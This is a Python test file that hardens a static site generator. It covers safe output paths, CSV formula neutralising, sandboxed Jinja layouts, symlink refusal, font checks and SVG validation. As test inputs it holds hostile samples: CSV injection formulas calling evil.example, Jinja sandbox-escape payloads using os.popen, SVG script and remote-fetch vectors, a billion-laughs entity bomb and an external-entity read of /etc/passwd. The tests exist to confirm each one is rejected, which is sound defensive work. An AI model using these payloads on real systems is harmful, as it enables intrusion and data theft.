"""Hardening: drafts and approval requests never reach the publish folder, whatever the
spelling of the path; --out never inside the site's own folders; CSV cells never formulas."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from casesite.check.fonts import Sheet, check_brief_fonts
from casesite.outputs.exports import COLUMNS, to_csv

from .conftest import APPROVAL, CASE_STUDY, REPO, MiniSite, tree_digest

DRAFT = CASE_STUDY.replace("title:", "draft: true\ntitle:").replace("test-quote", "draft-quote")
PENDING = APPROVAL.replace("status: approved\napproved_on: 2022-02-10", "status: pending")
DRAFT_FILES: dict[str, str | bytes | None] = {
    "content/case-studies/draft-story.md": DRAFT,
    "content/approvals/draft-quote.yml": PENDING,
}


def _spell(site: MiniSite, spelling: str) -> str:
    """A path to the site's _site/ (or under it) written in one of the ways a user might."""
    root = site.root
    if spelling == "link":
        (root / "elsewhere").symlink_to(root / "_site")
        return "elsewhere"
    if spelling == "link-to-root":
        (root.parent / "alias").symlink_to(root)
        return str(root.parent / "alias" / "_site")
    return {
        "plain": "_site",
        "dot-slash": "./_site/",
        "absolute": str(root / "_site"),
        "dot-dot": "content/../_site",
        "inside": "_site/preview",
    }[spelling]


SPELLINGS = ("plain", "dot-slash", "absolute", "dot-dot", "inside", "link", "link-to-root")


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_drafts_never_go_to_the_publish_folder_by_any_spelling(
    mini_site: Callable[..., MiniSite],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    spelling: str,
) -> None:
    site = mini_site(DRAFT_FILES)
    assert site.run("build", "--no-pdf", capsys=capsys).code == 0
    before = sorted(p.relative_to(site.out).as_posix() for p in site.out.rglob("*"))
    monkeypatch.chdir(site.root)
    out = _spell(site, spelling)
    result = site.run("build", "--no-pdf", "--drafts", "--out", out, capsys=capsys)
    assert result.code == 2, result.err
    assert "drafts never go to _site/ (the publish folder" in result.err
    after = sorted(p.relative_to(site.out).as_posix() for p in site.out.rglob("*"))
    assert after == before
    everything = "".join(p.read_text("utf-8", "replace") for p in site.out.rglob("*.*"))
    assert "draft-story" not in everything and "Awaiting approval" not in everything


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_approval_requests_never_go_to_the_publish_folder(
    mini_site: Callable[..., MiniSite],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    spelling: str,
) -> None:
    site = mini_site(DRAFT_FILES)
    assert site.run("build", "--no-pdf", capsys=capsys).code == 0
    before = tree_digest(site.out)
    monkeypatch.chdir(site.root)
    folder = _spell(site, spelling)
    target = folder if spelling == "inside" else os.path.join(folder, "requests")
    result = site.run("quotes", "--requests", target, capsys=capsys)
    assert result.code == 2, result.err
    assert "approval requests never go to _site/ (the publish folder" in result.err
    assert tree_digest(site.out) == before
    assert not Path(target).exists()


def test_approval_requests_never_go_into_another_built_site(
    mini_site: Callable[..., MiniSite], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    site = mini_site()
    public = tmp_path / "public"
    assert site.run("build", "--no-pdf", "--out", str(public), capsys=capsys).code == 0
    result = site.run("quotes", "--requests", str(public / "requests"), capsys=capsys)
    assert result.code == 2 and "a folder that casesite builds" in result.err
    assert not (public / "requests").exists()


@pytest.mark.parametrize(
    "out",
    [
        ".",
        "./",
        "content",
        "content/out",
        "layouts/x",
        "assets/built",
        "./assets/../layouts/deep/er",
        "linked-assets/out",
    ],
)
def test_out_never_inside_the_site_sources_or_the_root(
    mini_site: Callable[..., MiniSite],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    out: str,
) -> None:
    site = mini_site()
    (site.root / "linked-assets").symlink_to(site.root / "assets")
    monkeypatch.chdir(site.root)
    before = sorted(p.as_posix() for p in Path(".").rglob("*"))
    for args in (("build", "--no-pdf"), ("build", "--no-pdf", "--drafts")):
        result = site.run(*args, "--out", out, capsys=capsys)
        assert result.code == 2, result.err
        assert "casesite: the output folder" in result.err
        assert sorted(p.as_posix() for p in Path(".").rglob("*")) == before


def test_drafts_may_be_previewed_beside_the_site(
    mini_site: Callable[..., MiniSite],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    site = mini_site(DRAFT_FILES)
    monkeypatch.chdir(site.root)
    for out in ("preview", "./_site-preview/", "preview"):  # twice: a rebuild is allowed too
        result = site.run("build", "--no-pdf", "--drafts", "--out", out, capsys=capsys)
        assert result.code == 0, result.err
    assert "Awaiting approval" in Path("preview/case-studies/draft-story/index.html").read_text()
    result = site.run("quotes", "--requests", "requests", capsys=capsys)
    assert result.code == 0 and Path("requests/robert-buzsaki.md").is_file()


# CSV injection (OWASP): a cell a spreadsheet would read as a formula starts with a quote.
FORMULA_CELLS = [
    ('=HYPERLINK("http://evil.example/","x")', '\'=HYPERLINK("http://evil.example/","x")'),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("A=1", "A=1"),
    ("'quoted", "'quoted"),
    ("", ""),
]


@pytest.mark.parametrize(("value", "cell"), FORMULA_CELLS)
def test_csv_cells_that_read_as_formulas_are_neutralised(value: str, cell: str) -> None:
    item: dict[str, object] = {name: "" for name in COLUMNS}
    item.update(grant_amount=1, support_hours=1, title=value, themes=[value, "x"])
    rows = list(csv.reader(io.StringIO(to_csv([item]), newline="")))
    got = dict(zip(rows[0], rows[1], strict=True))
    assert got["title"] == cell
    assert got["themes"] == (f"{cell}; x" if value else "; x")


def test_csv_of_a_built_site_neutralises_formulas_and_json_keeps_the_text(
    mini_site: Callable[..., MiniSite], capsys: pytest.CaptureFixture[str]
) -> None:
    title = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    story = CASE_STUDY.replace(
        "title: Police and associations started working together", f"title: '{title}'"
    ).replace("developed_by: Glopolis", "developed_by: '@Glopolis'")
    site = mini_site({"content/case-studies/hungary.md": story})
    result = site.run("build", "--no-pdf", capsys=capsys)
    assert result.code == 0, result.err
    table = (site.out / "case-studies.csv").read_text("utf-8")
    [row] = list(csv.DictReader(io.StringIO(table, newline="")))
    assert row["title"] == "'" + title and row["developed_by"] == "'@Glopolis"
    data = json.loads((site.out / "case-studies.json").read_text("utf-8"))["case_studies"][0]
    assert data["title"] == title and data["developed_by"] == "@Glopolis"


# Layouts run in Jinja's sandbox: a layout cannot reach Python's internals.
ESCAPES = [
    "{{ lipsum.__globals__['os'].popen('echo PWNED-$((6*7))').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('echo PWNED-$((6*7))').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}PWNED-42",
]


def _with_line(layout: str, line: str) -> str:
    return layout.replace("{% block content %}\n", "{% block content %}\n" + line + "\n", 1)


@pytest.mark.parametrize("escape", ESCAPES)
def test_a_page_layout_cannot_reach_python_internals(
    mini_site: Callable[..., MiniSite], capsys: pytest.CaptureFixture[str], escape: str
) -> None:
    site = mini_site()
    layout = (site.root / "layouts/case-study.html").read_text()
    site.write({"layouts/case-study.html": _with_line(layout, escape)})
    result = site.run("build", "--no-pdf", capsys=capsys)
    assert result.code == 1, result.err
    assert "layouts/case-study.html:5:1: error: " in result.err
    assert "[layout-unsafe]" in result.err
    assert not site.out.exists()


def test_the_brief_layout_cannot_reach_python_internals(
    mini_site: Callable[..., MiniSite], capsys: pytest.CaptureFixture[str]
) -> None:
    site = mini_site(pdf=True)
    layout = (site.root / "layouts/brief.html").read_text()
    layout = layout.replace("<body class", ESCAPES[0] + "\n<body class", 1)
    line = layout.splitlines().index(ESCAPES[0]) + 1
    site.write({"layouts/brief.html": layout})
    result = site.run("build", capsys=capsys)
    assert result.code == 1, result.err
    assert f"layouts/brief.html:{line}:1: error: " in result.err
    assert "[layout-unsafe]" in result.err and "PWNED-42" not in result.err
    assert not site.out.exists()


@pytest.mark.parametrize("where", ["file", "folder", "layout", "layouts"])
def test_layouts_never_read_through_a_symbolic_link(
    mini_site: Callable[..., MiniSite],
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    where: str,
) -> None:
    site = mini_site()
    secret = tmp_path / "outside" / "passwd.html"
    secret.parent.mkdir()
    secret.write_text("root:x:0:0:TOP-SECRET\n")
    layout = (site.root / "layouts/case-study.html").read_text()
    if where == "file":
        (site.root / "layouts/secret.html").symlink_to(secret)
        site.write({"layouts/case-study.html": _with_line(layout, '{% include "secret.html" %}')})
        shown = "layouts/secret.html"
    elif where == "folder":
        (site.root / "layouts/parts").symlink_to(secret.parent)
        include = '{% include "parts/passwd.html" %}'
        site.write({"layouts/case-study.html": _with_line(layout, include)})
        shown = "layouts/parts"
    elif where == "layouts":
        moved = tmp_path / "outside" / "layouts"
        (site.root / "layouts").rename(moved)
        (site.root / "layouts").symlink_to(moved)
        shown = "layouts"
    else:
        moved = tmp_path / "outside" / "case-study.html"
        moved.write_text(_with_line(layout, "TOP-SECRET"))
        (site.root / "layouts/case-study.html").unlink()
        (site.root / "layouts/case-study.html").symlink_to(moved)
        shown = "layouts/case-study.html"
    result = site.run("build", "--no-pdf", capsys=capsys)
    assert result.code == 1, result.err
    assert f"{shown}:1:1: error: " in result.err and "[symlink]" in result.err
    assert not site.out.exists()


# The PDF brief draws only with fonts declared from assets/ (no system font embedded).
FONTS_CSS = """@font-face { font-family: "Body Face"; src: url("fonts/a.woff2") format("woff2"); }
@font-face { font-family: Head; src: url("fonts/b.woff2"); }
"""
LOCAL_FACE = '@font-face { font-family: "Sys"; src: local("Arial"), url("fonts/c.woff2"); }\n'
# (brief.css, the fonts reported, each at its first place in brief.css)
FONT_CASES = [
    ('h1 { font-family: "Body Face", Head; }', []),
    ('h1 { font-family: "body face"; } p { font: 600 9pt/1.2 Head; }', []),
    ("h1 { font-family: inherit; } p { font-family: initial }", []),
    ('h1 { font-family: "Body Face", Georgia, serif; }', ["Georgia", "serif"]),
    ("p {\n  font: italic 9pt/1.3 Times New Roman, Head;\n}", ["Times New Roman"]),
    ("p { font: caption; }", ["caption"]),
    (':root { --x: "Body Face", Arial; }\np { font-family: var(--x); }', ["Arial"]),
    ("p { font-family: var(--unset, Verdana); }", ["Verdana"]),
    (":root { --y: Tahoma; --x: var(--y); }\np { font-family: var(--x); }", ["Tahoma"]),
    (":root { --unused: Comic Sans MS; }", []),
    ("@media print { @page { @top-left { font-family: Impact } } }", ["Impact"]),
    (LOCAL_FACE + "p { font-family: Sys; }", ["local(", "Sys;"]),
]


def _place(text: str, word: str) -> str:
    offset = text.index(word)
    line = text.count("\n", 0, offset) + 1
    return f"{line}:{offset - (text.rfind(chr(10), 0, offset) + 1) + 1}"


@pytest.mark.parametrize(("css", "expected"), FONT_CASES)
def test_brief_fonts_must_be_declared_from_assets(css: str, expected: list[str]) -> None:
    sheets = [Sheet("assets/brief.css", css), Sheet("assets/fonts.css", FONTS_CSS)]
    found = check_brief_fonts(sheets)
    assert all(d.code == "brief-font" and d.location.path == "assets/brief.css" for d in found)
    got = {f"{d.location.line}:{d.location.col}": d.message for d in found}
    assert sorted(got) == sorted(_place(css, word) for word in expected), got
    for word in expected:
        assert word.rstrip(";(") in got[_place(css, word)]


def test_a_brief_using_a_system_font_is_not_built(
    mini_site: Callable[..., MiniSite], capsys: pytest.CaptureFixture[str]
) -> None:
    site = mini_site(pdf=True)
    css = (site.root / "assets/brief.css").read_text()
    old = '--sans: "Source Sans 3", "Source Sans 3 latin-ext";'
    assert old in css
    line = css[: css.index(old)].count("\n") + 1
    article = (site.root / "layouts/_brief-article.html").read_text()
    article = article.replace(
        '<header class="masthead">', '<header class="masthead" style="font-family: DejaVu Sans">', 1
    )
    alayout = article[: article.index("DejaVu Sans")].count("\n") + 1
    site.write(
        {
            "assets/brief.css": css.replace(old, old.replace(";", ", Arial, sans-serif;")),
            "layouts/_brief-article.html": article,
        }
    )
    result = site.run("build", capsys=capsys)
    assert result.code == 1, result.err
    assert f"assets/brief.css:{line}:" in result.err and "'Arial'" in result.err
    assert "'sans-serif'" in result.err and "[brief-font]" in result.err
    assert f"layouts/_brief-article.html:{alayout}:" in result.err and "'DejaVu Sans'" in result.err
    assert not site.out.exists()


# SVG files under assets/: nothing that runs script or fetches from elsewhere.
SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
# (the SVG's body, after its first line; the reported line:col and words of the message;
# None when the file is fine)
SVG_CASES = [
    ('<rect width="1" height="1" fill="url(#g)"/>\n<a href="#top"><text>x</text></a>', None),
    ('<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>', None),
    ('<image href="photo.png" width="1" height="1"/>', None),
    ("<script>alert(1)</script>", "2:1 script"),
    ('<g>\n  <rect onclick="alert(1)" width="1"/></g>', "3:3 onclick"),
    ('<svg:rect xmlns:svg="http://www.w3.org/2000/svg" ONLOAD="x()"/>', "2:1 ONLOAD"),
    (
        '<foreignObject width="9"><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>',
        "2:1 foreignObject",
    ),
    ('<image href="https://tracker.example/p.png"/>', "2:1 https://tracker.example"),
    ('<image xlink:href="http://example.org/p.png"/>', "2:1 http://example.org"),
    ('<use href="//cdn.example/sprite.svg#a"/>', "2:1 //cdn.example"),
    ('<image href="file:///etc/passwd"/>', "2:1 file:///etc/passwd"),
    ('<a xlink:href=" JavaScript:alert(1)"><text>x</text></a>', "2:1 JavaScript:"),
    ('<image href="data:image/svg+xml;base64,PHN2Zz4="/>', "2:1 data:image/svg+xml"),
    ('<a href="data:text/html,&lt;script&gt;"><text>x</text></a>', "2:1 data:text/html"),
    ('<set attributeName="href" to="javascript:alert(1)"/>', "2:1 javascript:"),
    ('<rect fill="url(https://evil.example/#p)"/>', "2:1 https://evil.example"),
    ("<style>@import url('http://evil.example/a.css');</style>", "2:1 http://evil.example"),
    ('<rect style="fill: url(//evil.example/#p)"/>', "2:1 //evil.example"),
    ("<rect", "3:1 cannot be read"),
]


@pytest.mark.parametrize(("body", "expected"), SVG_CASES)
def test_svg_assets_may_not_run_script_or_fetch_from_elsewhere(
    body: str, expected: str | None
) -> None:
    from casesite.load.svg import check_svg

    found = check_svg("assets/x.svg", (SVG_HEAD + body + "\n</svg>\n").encode())
    if expected is None:
        assert found == []
        return
    place, words = expected.split(" ", 1)
    assert [d.code for d in found] == ["unsafe-svg"], [d.format() for d in found]
    assert str(found[0].location) == f"assets/x.svg:{place}", found[0].format()
    assert words in found[0].message


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&d;&d;&d;&d;&d;&d;&d;&d;&d;</text></svg>
"""
EXTERNAL_ENTITY = """<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>
"""


@pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL_ENTITY])
def test_svg_with_a_doctype_or_entities_is_refused_unexpanded(text: str) -> None:
    from casesite.load.svg import check_svg

    found = check_svg("assets/x.svg", text.encode())
    assert [d.code for d in found] == ["unsafe-svg"]
    assert "DOCTYPE" in found[0].message and found[0].location.line == (
        2 if text is BILLION_LAUGHS else 1
    )


def test_a_site_with_an_unsafe_svg_is_not_built(
    mini_site: Callable[..., MiniSite], capsys: pytest.CaptureFixture[str]
) -> None:
    site = mini_site()
    logo = SVG_HEAD + '<circle r="4"/>\n  <circle r="2" onmouseover="steal()"/>\n</svg>\n'
    site.write({"assets/partners/evil.svg": logo})
    result = site.run("check", capsys=capsys)
    assert result.code == 1, result.err
    assert "assets/partners/evil.svg:3:3: error: " in result.err
    assert "[unsafe-svg]" in result.err and "onmouseover" in result.err
    assert site.run("build", "--no-pdf", capsys=capsys).code == 1
    assert not site.out.exists()


# Every page of the built sample is valid HTML by the W3C Nu Html Checker (vnu-jar, npm).
VNU = REPO / "node_modules/vnu-jar/build/dist/vnu.jar"
PAGE_TYPES = (  # one page of each kind, and with them every other page
    "index.html",
    "case-studies/hungary-police-cooperation/index.html",
    "countries/hu/index.html",
    "networks/working-group-against-hate-crimes-in-hungary/index.html",
    "programmes/stronger-roots/index.html",
    "years/2021/index.html",
    "themes/policing/index.html",
    "search/index.html",
    "404.html",
)


def _require_vnu() -> str:
    java = shutil.which("java")
    missing = [] if java else ["Java (apt-get install default-jre-headless)"]
    if not VNU.is_file():
        missing.append(f"the npm package vnu-jar (run `npm ci` in {REPO})")
    if java and not missing:
        return java
    reason = "the HTML check needs " + " and ".join(missing)
    if os.environ.get("CI", "").strip().lower() not in ("", "0", "false", "no"):
        pytest.fail(f"{reason} (CI is set, so this is a failure, not a skip)", pytrace=False)
    pytest.skip(reason)


def test_every_page_of_the_sample_is_valid_html(sample_site: Path) -> None:
    java = _require_vnu()
    pages = sorted(p.relative_to(sample_site).as_posix() for p in sample_site.rglob("*.html"))
    assert set(PAGE_TYPES) <= set(pages)
    proc = subprocess.run(
        [java, "-jar", str(VNU), "--errors-only", "--format", "gnu", *pages],
        cwd=sample_site,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert proc.stdout + proc.stderr == "" and proc.returncode == 0, proc.stdout + proc.stderr


@pytest.mark.parametrize(
    ("lang", "start", "end"),
    [
        (lang, s, e)
        for lang in ("en-GB", "cs", "hu", "sk", "pl", "de", "ja", "fa")
        for s, e in (((2022, 9), (2023, 2)), ((2022, 9), (2022, 11)), ((2022, 9), None))
    ],
)
def test_a_change_period_splits_into_its_ends_with_the_same_words(
    lang: str, start: tuple[int, int], end: tuple[int, int] | None
) -> None:
    from datetime import date

    from casesite.formatting import period, period_parts
    from casesite.model import Period

    value = Period(date(*start, 1), date(*end, 1) if end else None)
    parts = period_parts(value, lang)
    assert "".join(parts) == period(value, lang)
    if end is None:
        assert parts[1:] == ("", "")
